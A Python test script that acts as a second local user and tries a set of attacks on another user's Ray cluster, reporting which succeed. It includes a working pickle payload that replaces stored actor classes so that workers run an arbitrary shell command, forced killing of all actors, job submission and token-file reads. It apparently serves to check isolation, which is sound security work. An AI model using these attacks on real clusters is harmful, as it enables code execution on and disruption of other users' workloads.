"""Another user of the machine, who knows where a Ray listens: everything that it tries there, and
how that ended.

    python second_user.py UID GCS-ADDRESS FOLDER COMMAND [PORT...]

The process gives up its rights before its first try, because another user may not be able to start
this Python. FOLDER is the one of that Ray, PORTs are where its processes listen, COMMAND is what
the owner would run. Prints a JSON object: a try, and whether it succeeded.
"""

import json
import os
import pickle
import socket
import sys
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from http.client import HTTPException
from importlib import import_module
from pathlib import Path
from typing import Any

import grpc
import ray
from ray._raylet import GcsClient
from ray.core.generated import gcs_service_pb2, gcs_service_pb2_grpc

CLASSES = b"fun"
"""Namespace of the key-value store with the pickles of functions and of classes of actors."""
REFUSED = (
    grpc.StatusCode.UNAUTHENTICATED,
    grpc.StatusCode.UNIMPLEMENTED,
    grpc.StatusCode.UNAVAILABLE,  # a port of HTTP
)


class Run:
    """A pickle that runs a command where it is read."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (self.command,)


def methods() -> Iterator[str]:
    """Every call of every service of Ray, as gRPC names it; the last ones have no Python module."""
    for file in sorted((Path(ray.__file__).parent / "core" / "generated").glob("*_pb2.py")):
        module = import_module(f"ray.core.generated.{file.stem}")
        for service in module.DESCRIPTOR.services_by_name.values():
            yield from (f"/{service.full_name}/{method.name}" for method in service.methods)
    yield from (f"/ray.rpc.ObjectManagerService/{name}" for name in ("Push", "Pull", "FreeObjects"))


def answered(port: str, names: list[str]) -> list[str]:
    """The calls that a port takes from us: not refused for the lack of a token, and not unknown
    there.
    """
    taken = []
    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        for name in names:
            call = channel.unary_unary(name, request_serializer=bytes, response_deserializer=bytes)
            try:
                call(b"", timeout=2)
                taken.append(name)
            except grpc.RpcError as error:
                if error.code() not in REFUSED:
                    taken.append(name)
    return taken


def read_classes(address: str) -> bool:
    return bool(GcsClient(address=address).internal_kv_keys(b"ActorClass", namespace=CLASSES))


def replace_classes(address: str, command: str) -> bool:
    gcs = GcsClient(address=address)
    for key in gcs.internal_kv_keys(b"ActorClass", namespace=CLASSES):
        value = pickle.loads(gcs.internal_kv_get(key, namespace=CLASSES)) | {
            "class": pickle.dumps(Run(command))
        }
        gcs.internal_kv_put(key, pickle.dumps(value), True, namespace=CLASSES)
    return True


def kill_workers(address: str) -> bool:
    with grpc.insecure_channel(address) as channel:
        stub = gcs_service_pb2_grpc.ActorInfoGcsServiceStub(channel)
        found = stub.GetAllActorInfo(
            gcs_service_pb2.GetAllActorInfoRequest(), timeout=5
        ).actor_table_data
        for actor in found:
            request = gcs_service_pb2.KillActorViaGcsRequest(
                actor_id=actor.actor_id, force_kill=True, no_restart=True
            )
            stub.KillActorViaGcs(request, timeout=5)
    return bool(found)


def push_task(ports: list[str]) -> bool:
    """A worker takes a task, and finds that it is for another worker."""
    return any(answered(port, ["/ray.rpc.CoreWorkerService/PushTask"]) for port in ports)


def submit_job(address: str) -> bool:
    with grpc.insecure_channel(address) as channel:
        stub = gcs_service_pb2_grpc.JobInfoGcsServiceStub(channel)
        stub.GetNextJobID(gcs_service_pb2.GetNextJobIDRequest(), timeout=5)
        stub.AddJob(gcs_service_pb2.AddJobRequest(), timeout=5)
    return True


def read_files(folder: Path) -> bool:
    return bool(list(folder.iterdir()) or (folder / "token").read_bytes())


def connect_to_sockets(folder: Path) -> bool:
    for path in folder.glob("r/session_*/sockets/*"):
        with socket.socket(socket.AF_UNIX) as end:
            end.connect(str(path))
            return True
    return False


def ask_over_http(ports: list[str]) -> bool:
    """The agent of runtime environments starts programs."""
    for port in ports:
        try:
            urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=10).close()
        except urllib.error.HTTPError as error:
            if error.code not in (401, 403):
                return True
        except (OSError, HTTPException):
            continue  # speaks gRPC
    return False


def main(uid: int, address: str, folder: Path, command: str, ports: list[str]) -> None:
    everything = list(methods())
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)
    tries: dict[str, Callable[[], Any]] = {
        "read classes of workers": lambda: read_classes(address),
        "replace classes of workers": lambda: replace_classes(address, command),
        "push a task to a worker": lambda: push_task(ports),
        "submit a job": lambda: submit_job(address),
        "read files": lambda: read_files(folder),
        "connect to Unix sockets": lambda: connect_to_sockets(folder),
        "ask over HTTP": lambda: ask_over_http(ports),
        "kill workers": lambda: kill_workers(address),
    }
    done: dict[str, Any] = {}
    for name, attempt in tries.items():
        try:
            done[name] = bool(attempt())
        except Exception as error:
            print(name, type(error).__name__, str(error)[:200], file=sys.stderr)
            done[name] = False
    if not any(done.values()):  # some of these calls end Ray
        done["any other call"] = [
            (port, name) for port in ports for name in answered(port, everything)
        ]
    print(json.dumps(done))


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2], Path(sys.argv[3]), sys.argv[4], sys.argv[5:])
